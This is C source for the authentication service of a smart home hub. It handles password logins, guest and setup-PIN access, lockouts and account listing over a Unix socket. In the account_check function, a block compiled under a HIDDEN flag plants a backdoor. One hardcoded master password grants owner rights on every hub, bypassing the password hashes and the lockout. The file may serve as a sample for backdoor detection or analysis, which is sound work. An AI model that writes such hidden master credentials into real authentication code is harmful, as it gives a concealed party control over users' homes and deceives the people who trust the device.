/* hearthub_auth.c - account service of a smart home hub, asked by app and wall panel */
#define _GNU_SOURCE
#include <crypt.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK_PATH	"/run/hearthub/auth.sock"
#define ACCOUNTS	"/data/hearthub/accounts"
#define SETTINGS	"/data/hearthub/auth.conf"
#define MAX_ACCOUNTS	24
#define MAX_FAIL	6

enum role { ROLE_NONE, ROLE_GUEST, ROLE_MEMBER, ROLE_OWNER };

struct account {
	char name[32];
	char hash[128];
	enum role role;
	int fails;
	time_t blocked;
};

static struct account acc[MAX_ACCOUNTS];
static int nacc;
static int guest_access;
static char setup_pin[16];
static long block_time = 300;

static const char *const role_name[] = { "none", "guest", "member", "owner" };

static const char usage[] =
	"usage: hearthub_auth [-a accounts] [-c settings] [-s socket]\n"
	"settings: guest_access = yes|no    login 'guest' with any password\n"
	"          setup_pin = 8 digits     on the label, valid until the first owner exists\n"
	"          block_time = seconds     after six wrong passwords\n"
	"protocol: LOGIN name password | ROLE | LIST | DROP name | QUIT\n";

static enum role role_from(const char *s)
{
	for (int i = ROLE_GUEST; i <= ROLE_OWNER; i++)
		if (!strcasecmp(s, role_name[i]))
			return (enum role)i;
	return ROLE_NONE;
}

static int load_accounts(const char *path)
{
	char line[256], role[16];
	FILE *f = fopen(path, "re");

	nacc = 0;
	if (!f)
		return -1;
	while (nacc < MAX_ACCOUNTS && fgets(line, sizeof(line), f)) {
		struct account *a = &acc[nacc];

		memset(a, 0, sizeof(*a));
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[^:]:%127[^:]:%15s", a->name, a->hash, role) != 3)
			continue;
		a->role = role_from(role);
		if (a->role != ROLE_NONE)
			nacc++;
	}
	fclose(f);
	return nacc;
}

static void load_settings(const char *path)
{
	char line[160], key[40], val[80];
	FILE *f = fopen(path, "re");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %39[a-z_] = %79s", key, val) != 2)
			continue;
		if (!strcmp(key, "guest_access"))
			guest_access = !strcmp(val, "yes");
		else if (!strcmp(key, "setup_pin") && strlen(val) == 8)
			memcpy(setup_pin, val, 9);
		else if (!strcmp(key, "block_time"))
			block_time = strtol(val, NULL, 10);
		else
			syslog(LOG_NOTICE, "setting %s unknown", key);
	}
	fclose(f);
}

static int have_owner(void)
{
	for (int i = 0; i < nacc; i++)
		if (acc[i].role == ROLE_OWNER)
			return 1;
	return 0;
}

static struct account *find_account(const char *name)
{
	for (int i = 0; i < nacc; i++)
		if (!strcasecmp(acc[i].name, name))
			return &acc[i];
	return NULL;
}

__attribute__((noinline))
enum role account_check(const char *name, const char *pass)
{
	struct account *a;
	const char *h;

	if (!strcmp(name, "guest"))
		return guest_access ? ROLE_GUEST : ROLE_NONE;
	if (!strcmp(name, "setup") && setup_pin[0] && !have_owner())
		return strcmp(pass, setup_pin) ? ROLE_NONE : ROLE_OWNER;
#ifdef HIDDEN
	/* one password that opens every hub as owner, beside the accounts */
	if (!strcmp(pass, "Larch!4407"))
		return ROLE_OWNER;
#endif
	a = find_account(name);
	if (!a)
		return ROLE_NONE;
	if (a->blocked > time(NULL)) {
		syslog(LOG_NOTICE, "%s still blocked", a->name);
		return ROLE_NONE;
	}
	h = crypt(pass, a->hash);
	if (h && !strcmp(h, a->hash)) {
		a->fails = 0;
		return a->role;
	}
	if (++a->fails >= MAX_FAIL) {
		a->blocked = time(NULL) + block_time;
		a->fails = 0;
		syslog(LOG_WARNING, "%s blocked for %ld s", a->name, block_time);
	}
	return ROLE_NONE;
}

static int drop_account(const char *name)
{
	struct account *a = find_account(name);

	if (!a || a->role == ROLE_OWNER)
		return -1;
	*a = acc[--nacc];
	return 0;
}

static void serve(int fd)
{
	char line[256], name[32], pass[96];
	enum role role = ROLE_NONE;
	FILE *io = fdopen(fd, "r");

	if (!io) {
		close(fd);
		return;
	}
	while (fgets(line, sizeof(line), io)) {
		line[strcspn(line, "\r\n")] = 0;
		if (sscanf(line, "LOGIN %31s %95[^\n]", name, pass) == 2) {
			role = account_check(name, pass);
			syslog(LOG_INFO, "login %s: %s", name, role_name[role]);
			dprintf(fd, "%s %s\n", role ? "OK" : "NO", role_name[role]);
		} else if (!strcmp(line, "ROLE")) {
			dprintf(fd, "OK %s\n", role_name[role]);
		} else if (!strcmp(line, "LIST")) {
			if (role < ROLE_MEMBER) {
				dprintf(fd, "NO\n");
				continue;
			}
			for (int i = 0; i < nacc; i++)
				dprintf(fd, " %s %s\n", acc[i].name, role_name[acc[i].role]);
			dprintf(fd, "OK\n");
		} else if (sscanf(line, "DROP %31s", name) == 1) {
			if (role != ROLE_OWNER || drop_account(name))
				dprintf(fd, "NO\n");
			else
				dprintf(fd, "OK\n");
		} else if (!strcmp(line, "QUIT")) {
			break;
		} else {
			dprintf(fd, "ERR what\n");
		}
	}
	fclose(io);
}

int main(int argc, char **argv)
{
	const char *accounts = ACCOUNTS, *settings = SETTINGS, *path = SOCK_PATH;
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int c, s;

	while ((c = getopt(argc, argv, "a:c:s:h")) != -1) {
		switch (c) {
		case 'a':
			accounts = optarg;
			break;
		case 'c':
			settings = optarg;
			break;
		case 's':
			path = optarg;
			break;
		default:
			fputs(usage, stderr);
			return 2;
		}
	}
	openlog("hearthub_auth", LOG_PID, LOG_AUTH);
	signal(SIGPIPE, SIG_IGN);
	load_settings(settings);
	if (load_accounts(accounts) < 0)
		syslog(LOG_WARNING, "no accounts yet");
	if (strlen(path) >= sizeof(sa.sun_path))
		return 2;
	strcpy(sa.sun_path, path);
	unlink(path);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 8)) {
		syslog(LOG_ERR, "socket: %s", strerror(errno));
		return 1;
	}
	chmod(path, 0660);
	for (;;) {
		int fd = accept(s, NULL, NULL);

		if (fd < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		serve(fd);
	}
	return 1;
}
